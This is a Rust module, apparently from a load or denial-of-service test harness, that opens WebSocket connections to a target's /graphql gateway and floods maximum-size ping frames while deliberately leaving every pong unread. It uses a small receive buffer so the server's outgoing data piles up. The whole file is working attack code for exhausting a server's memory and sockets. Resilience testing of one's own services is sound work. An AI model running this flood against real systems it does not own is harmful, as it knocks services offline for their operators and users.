//! WebSocket pings as fast as they are taken, by a client that reads none of the pongs.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

use super::client::Attacker;

const CLIENTS: usize = 2;
/// Pings of one write, each with as many bytes as a control frame may have.
const PINGS_PER_WRITE: usize = 64;
const PAYLOAD_BYTES: usize = 125;
/// The kernel's buffer for what is not read.
const RECEIVE_BUFFER_BYTES: u32 = 4 * 1024;
/// A server that takes nothing for so long holds the socket.
const WRITE_TIME_LIMIT: Duration = Duration::from_secs(45);

pub(super) async fn run(attacker: Attacker) {
    attacker
        .keep_up(attacker.share_of(CLIENTS), |attacker, _| flood(attacker))
        .await;
}

async fn flood(attacker: Attacker) {
    let connected = attacker.connect_to_read_slowly(RECEIVE_BUFFER_BYTES).await;
    let Ok(mut stream) = connected else { return };
    if upgrade(&attacker, &mut stream).await.is_none() {
        return attacker.tally.answered("no upgrade");
    }
    // A final frame with opcode 9, masked by zeros.
    let mut ping = vec![0x89, 0x80 | PAYLOAD_BYTES as u8, 0, 0, 0, 0];
    ping.resize(ping.len() + PAYLOAD_BYTES, b'p');
    let pings = ping.repeat(PINGS_PER_WRITE);
    loop {
        attacker.link.carry(pings.len()).await;
        match timeout(WRITE_TIME_LIMIT, stream.write_all(&pings)).await {
            Ok(Ok(())) => attacker.tally.requested(PINGS_PER_WRITE as u64),
            Ok(Err(_)) => return attacker.tally.answered("connection ended"),
            Err(_) => return attacker.tally.answered("held, and not read from"),
        }
        // The other clients of this runtime have their turn.
        tokio::task::yield_now().await;
    }
}

/// The upgrade by hand, as no library leaves pongs unread.
async fn upgrade(attacker: &Attacker, stream: &mut TcpStream) -> Option<()> {
    let host = attacker.target.gateway;
    let request = format!(
        "GET /graphql HTTP/1.1\r\nhost: {host}\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
         sec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\
         sec-websocket-protocol: graphql-transport-ws\r\n\r\n"
    );
    stream.write_all(request.as_bytes()).await.ok()?;
    let mut head = [0; 12];
    stream.read_exact(&mut head).await.ok()?;
    if !head.ends_with(b" 101") {
        return None;
    }
    let init = br#"{"type":"connection_init"}"#;
    let mut frame = vec![0x81, 0x80 | init.len() as u8, 0, 0, 0, 0];
    frame.extend_from_slice(init);
    stream.write_all(&frame).await.ok()
}
